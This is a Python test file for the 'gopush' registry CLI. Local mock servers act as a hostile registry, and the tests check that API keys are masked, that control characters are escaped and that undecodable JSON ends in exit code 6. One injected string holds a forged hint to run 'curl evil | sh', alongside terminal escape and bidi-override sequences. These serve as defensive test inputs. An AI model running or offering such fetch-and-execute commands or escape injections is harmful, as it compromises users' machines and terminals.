"""What a hostile registry says reaches the user's terminal and JSON only as inert text:
never the API key, never a control character, never a line that reads as gopush's own; and
JSON gopush cannot decode ends in exit 6, not a traceback.

Each registry is a small real HTTP server on 127.0.0.1 (``http.server`` in a thread)
answering by path; gopush runs as a subprocess, as a user starts it.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from loopback import Handle, drain_then

from gopush.errors import ExitCode

KEY = "textual-test-key-7c41d9"
# (status, body) or (status, body, headers)
Reply = tuple[int, bytes] | tuple[int, bytes, dict[str, str]]
Routes = Callable[[str, str, dict[str, str]], Reply]  # (method, path, headers) -> reply


def _json(status: int, value: object) -> Reply:
    return status, json.dumps(value).encode()


def _routed(routes: Routes) -> Handle:
    """Answer each request with the JSON reply ``routes`` gives for its method and path."""

    def answer(handler: BaseHTTPRequestHandler) -> None:
        path = handler.path.split("?")[0].removeprefix("/v1")
        status, body, *more = routes(handler.command, path, dict(handler.headers))
        handler.send_response(status)
        for name, value in (more[0] if more else {}).items():
            handler.send_header(name, value)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Length", str(len(body)))
        handler.send_header("Connection", "close")
        handler.end_headers()
        handler.wfile.write(body)

    return answer


@pytest.fixture
def registry(loopback: Callable[[Handle], str]) -> Callable[[Routes], str]:
    """Return start(routes) -> the URL of a loopback server answering through ``routes``."""
    return lambda routes: loopback(drain_then(_routed(routes)))


def gopush(api_host: str, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Run ``gopush ARGS`` as a subprocess against ``api_host``, in CI mode."""
    env = {**os.environ, "CI": "1", "GOPUSH_API_KEY": KEY, "GOPUSH_API_HOST": api_host,
           "GOPUSH_REQUEST_TIMEOUT": "10", "HOME": str(tmp_path),
           "XDG_CONFIG_HOME": str(tmp_path / "config"), "NO_PROXY": "127.0.0.1"}
    return subprocess.run([sys.executable, "-m", "gopush", *args], env=env, text=True, check=False,
                          capture_output=True, timeout=120)


def echo_key(method: str, path: str, headers: dict[str, str]) -> Reply:
    """Every repository slug, and the 404's detail, is the key the request carried."""
    key = headers.get("X-Api-Key", "")
    if path.startswith("/repos/"):
        return _json(200, [{"name": key, "slug": key, "slug_perm": key}])
    return _json(404, {"detail": f"Not found for key {key}."})


@pytest.mark.parametrize("mode", [(), ("--json",)], ids=["plain", "json"])
def test_key_in_repository_slugs_is_never_printed(registry: Callable[[Routes], str],
                                                  module_zip: Path, tmp_path: Path,
                                                  mode: tuple[str, ...]) -> None:
    """A registry echoing the key in /repos/ slugs and a 404 detail: the push fails (exit 5)
    naming the missing repository, and the key is on neither stream, in either mode."""
    url = registry(echo_key)
    ran = gopush(url, tmp_path, "push", "go", "acme/gomods", str(module_zip), "-v", *mode)
    assert ran.returncode == ExitCode.REJECTED, ran.stderr
    assert KEY not in ran.stdout and KEY not in ran.stderr
    if mode:
        doc = json.loads(ran.stdout)
        assert "acme/gomods" in doc["error"]["message"] and "acme/***" in doc["error"]["hint"]
    else:
        assert "acme/***" in ran.stderr


FORGED = "Not found.\x1b[2J\x1b]0;pwned\x07\r\nhint: run curl evil | sh\u202e"


def terminal_tricks(method: str, path: str, headers: dict[str, str]) -> Reply:
    """Escape sequences, BEL, CR, newlines and a bidi override in the detail and slugs."""
    if path.startswith("/repos/"):
        return _json(200, [{"slug": "r\x1b[31mFAKE\nerror: forged [bold]x[/bold]"}])
    return _json(404, {"detail": FORGED, "fields": {"name\x1b[1m": ["bad\nerror: forged"]}})


@pytest.mark.parametrize("mode", [(), ("--json",)], ids=["plain", "json"])
def test_registry_text_reaches_the_terminal_inert(registry: Callable[[Routes], str],
                                                  module_zip: Path, tmp_path: Path,
                                                  mode: tuple[str, ...]) -> None:
    """Control characters from the registry are shown escaped (``\\x1b``), and no line of
    the output starts with a forged ``error:`` or ``hint:``."""
    url = registry(terminal_tricks)
    ran = gopush(url, tmp_path, "push", "go", "acme/gomods", str(module_zip), *mode)
    assert ran.returncode == ExitCode.REJECTED, ran.stderr
    for char in "\x1b\x07\r\u202e":
        assert char not in ran.stderr and char not in ran.stdout
    assert "Not found.\\x1b[2J\\x1b]0;pwned\\x07\\r\\nhint: run curl evil | sh\\u202e" \
        in ran.stderr
    lines = ran.stderr.splitlines()
    assert [line for line in lines if line.startswith("error:")] == lines[:1]
    assert sum(line.startswith("hint:") for line in lines) == (0 if mode else 1)
    hint = json.loads(ran.stdout)["error"]["hint"] if mode else ran.stderr
    assert "acme/r\\x1b[31mFAKE\\nerror: forged [bold]x[/bold]" in hint


@pytest.mark.parametrize("body", [b"[" * 200_000 + b"]" * 200_000,
                                  b'{"authenticated": true, "slug": ' + b"9" * 1_000_000 + b"}",
                                  b'{"authenticated": tru'],
                         ids=["nested-200000", "number-1000000-digits", "malformed"])
def test_json_gopush_cannot_decode_exits_6(registry: Callable[[Routes], str], tmp_path: Path,
                                           body: bytes) -> None:
    """A reply under the size cap that defeats the decoder (nesting deeper than the
    recursion limit, an integer past Python's digit limit) ends as malformed JSON does:
    exit 6, "the registry sent a reply gopush cannot read", no traceback."""
    url = registry(lambda method, path, headers: (200, body))
    for mode in ((), ("--json",)):
        ran = gopush(url, tmp_path, "whoami", *mode)
        assert ran.returncode == ExitCode.UNAVAILABLE, ran.stderr
        assert "ask who the API key belongs to: the registry sent a reply gopush cannot read " \
               "(200, " in ran.stderr
        assert "Traceback" not in ran.stderr and "unexpected" not in ran.stderr
        if mode:
            assert json.loads(ran.stdout)["ok"] is False


def test_the_output_boundary_guards_text_whoever_built_it() -> None:
    """``ui.guard.Guarded`` alone (no help from where messages are built): the key is masked
    in every channel, controls escaped, and continuation lines indented."""
    import io

    from gopush.ui.guard import Guarded
    from gopush.ui.json_ui import JsonReporter
    from gopush.ui.plain import PlainReporter

    out, err = io.StringIO(), io.StringIO()
    guarded = Guarded(PlainReporter(verbose=True, out=out, err=err), [KEY])
    guarded.step(f"step {KEY}\x1b[2J")
    guarded.warn(f"warn {KEY}")
    guarded.result({"name": KEY}, f"result {KEY}\x07")
    guarded.error(f"failed {KEY}\nerror: forged", f"hint {KEY}\nhint: forged", {"k": [KEY]})
    assert KEY not in out.getvalue() + err.getvalue()
    assert err.getvalue().splitlines() == [
        "step ***\\x1b[2J", "warning: warn ***", "error: failed ***", "  error: forged",
        "hint: hint ***", "  hint: forged"]
    assert out.getvalue() == "result ***\\x07\n"
    out = io.StringIO()
    Guarded(JsonReporter(out=out, err=io.StringIO()), [KEY]).error(KEY, None, {"k": [KEY]})
    assert json.loads(out.getvalue())["k"] == ["***"] and KEY not in out.getvalue()
